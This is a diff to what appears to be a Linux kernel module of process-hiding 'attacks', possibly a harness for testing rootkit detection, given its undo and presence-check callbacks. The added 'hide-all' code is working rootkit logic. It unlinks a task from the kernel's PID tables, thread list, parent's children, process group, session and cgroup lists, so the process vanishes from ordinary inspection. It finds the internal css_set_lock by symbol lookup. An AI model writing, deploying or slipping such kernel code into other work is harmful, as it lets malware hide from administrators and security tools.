@@ -6,6 +6,7 @@
  * A removed node ends up linked to itself, since the task may exit meanwhile
  * and unlink the node once more.
  */
+#include <linux/cgroup.h>
 #include <linux/idr.h>
 #include <linux/kernel.h>
 #include <linux/kprobes.h>
@@ -14,6 +15,7 @@
 #include <linux/rculist.h>
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
+#include <linux/string.h>
 #include <linux/version.h>
 #include <asm/tsc.h>
 
@@ -475,6 +477,144 @@ struct attack hide_twice = {
 	.begin = twice_begin,
 	.undo = twice_undo,
 	.present = twice_present,
+};
+
+/*
+ * hide-all: everything by which Linux finds a process of one thread, but for
+ * the run queue that it needs to run. "PID children" leaves it among its
+ * parent's children, "PID groups" in its process group and session; otherwise
+ * it must have a session of its own, since nobody would keep another's PID.
+ *
+ * Undo comes before its exit: Linux warns about a task without a control group.
+ */
+static struct hidden from_all;
+static bool keeps_parent, keeps_groups;
+static spinlock_t *groups_lock;
+
+static bool is_in_group(struct task_struct *task)
+{
+	return is_in(&task->cg_list, &task_css_set(task)->tasks);
+}
+
+static void all_how(struct hidden *hidden)
+{
+	struct task_struct *task = hidden->task;
+
+	pid_how(hidden);
+	unlink_entry(&task->thread_node);
+	if (!keeps_parent)
+		unlink_entry(&task->sibling);
+	if (!keeps_groups) {
+		unlink_pid(&task->pid_links[PIDTYPE_PGID]);
+		unlink_pid(&task->pid_links[PIDTYPE_SID]);
+	}
+	spin_lock(groups_lock);
+	unlink_entry(&task->cg_list);
+	spin_unlock(groups_lock);
+}
+
+static void all_after(struct hidden *hidden)
+{
+	struct task_struct *task = hidden->task;
+
+	pid_after(hidden);
+	self_link(&task->thread_node, &task->signal->thread_head);
+	if (!keeps_parent)
+		self_link(&task->sibling, &task->real_parent->children);
+	if (!keeps_groups) {
+		self_link_pid(hidden, PIDTYPE_PGID);
+		self_link_pid(hidden, PIDTYPE_SID);
+	}
+	spin_lock(groups_lock);
+	self_link(&task->cg_list, &task_css_set(task)->tasks);
+	spin_unlock(groups_lock);
+}
+
+static bool can_hide_all(struct hidden *hidden)
+{
+	struct task_struct *task = hidden->task;
+	bool can;
+
+	read_lock(tasks_lock);
+	can = alive(task) && thread_group_empty(task) &&
+	      (keeps_groups || (task_pgrp(task) == hidden->pid &&
+				task_session(task) == hidden->pid));
+	read_unlock(tasks_lock);
+	spin_lock_irq(groups_lock);
+	can = can && is_in_group(task);
+	spin_unlock_irq(groups_lock);
+	return can;
+}
+
+static int all_begin(struct attack *attack, char *argument)
+{
+	char *pid = strsep(&argument, " ");
+	int error;
+
+	keeps_parent = argument && !strcmp(argument, "children");
+	keeps_groups = argument && !strcmp(argument, "groups");
+	if (argument && !keeps_parent && !keeps_groups)
+		return -EINVAL;
+	groups_lock = (spinlock_t *)symbol("css_set_lock");
+	if (!groups_lock)
+		return -ENOENT;
+	error = find(&from_all, pid, true);
+	if (error)
+		return error;
+	if (!can_hide_all(&from_all)) {
+		forget(&from_all);
+		return -EINVAL;
+	}
+	return hide(attack, &from_all, all_how, all_after);
+}
+
+/* A repair puts it back where a task must be. */
+static bool all_present(struct attack *attack)
+{
+	struct task_struct *task = from_all.task;
+	bool present;
+
+	rcu_read_lock();
+	read_lock(tasks_lock);
+	present = alive(task) &&
+		  (pid_missing(&from_all) ||
+		   !is_in(&task->thread_node, &task->signal->thread_head));
+	read_unlock(tasks_lock);
+	rcu_read_unlock();
+	return present;
+}
+
+static void all_undo(struct attack *attack)
+{
+	struct task_struct *task = from_all.task;
+
+	write_lock_irq(tasks_lock);
+	if (alive(task)) {
+		enum pid_type type;
+
+		for (type = PIDTYPE_PID; type < PIDTYPE_MAX; type++)
+			if (!keeps_groups || type < PIDTYPE_PGID)
+				relink_pid(&from_all, type);
+		set_slot(from_all.pid, NULL, from_all.pid);
+		relink_task(task);
+		if (!is_in(&task->thread_node, &task->signal->thread_head))
+			list_add_tail_rcu(&task->thread_node, &task->signal->thread_head);
+		if (!is_in(&task->sibling, &task->real_parent->children))
+			list_add_tail(&task->sibling, &task->real_parent->children);
+		spin_lock(groups_lock);
+		if (!is_in_group(task))
+			list_add_tail(&task->cg_list, &task_css_set(task)->tasks);
+		spin_unlock(groups_lock);
+	}
+	write_unlock_irq(tasks_lock);
+	forget(&from_all);
+}
+
+struct attack hide_all = {
+	.name = "hide-all",
+	.begin = all_begin,
+	.undo = all_undo,
+	.present = all_present,
 };
 
 /* hide-thread: the thread lists of its process. */
